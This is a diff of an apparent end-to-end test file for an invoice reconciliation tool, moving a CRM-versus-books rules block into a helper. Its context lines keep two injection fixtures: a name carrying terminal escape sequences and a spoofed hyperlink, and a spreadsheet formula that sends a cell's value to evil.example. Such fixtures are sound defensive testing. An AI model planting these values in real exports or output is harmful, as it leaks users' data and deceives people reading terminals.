@@ -26,18 +26,10 @@ from store.runs import SqlSyncLog
 from store.secrets import create_key_file
 from sync.demo import MARKER_NAME, check_demo_directory
 from sync.outputs import TEMP_MARK, Destination, OutputRefused, check_destination, protected_files
-from tests.e2e.report_support import NOW, Ran, run_cli, store_documents
+from tests.e2e.report_support import NOW, Ran, crm_vs_books, run_cli, store_documents
 from tests.unit.reconcile.helpers import invoice
 
-RULES = """\
-reconcile:
-  rules:
-    - name: crm-vs-books
-      left:  {source: zoho-crm, kind: invoice}
-      right: {source: zoho-books, kind: invoice}
-      keys: [number]
-      tolerance: {amount: 0.01}
-"""
+RULES = crm_vs_books("tolerance: {amount: 0.01}")
 HOSTILE_NAME = "[red]Evil[/red] \x1b]8;;http://evil.example\x1b\\Co\x1b]8;;\x1b\\ \x1b[2J"
 FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&B2,"Acme")'
 
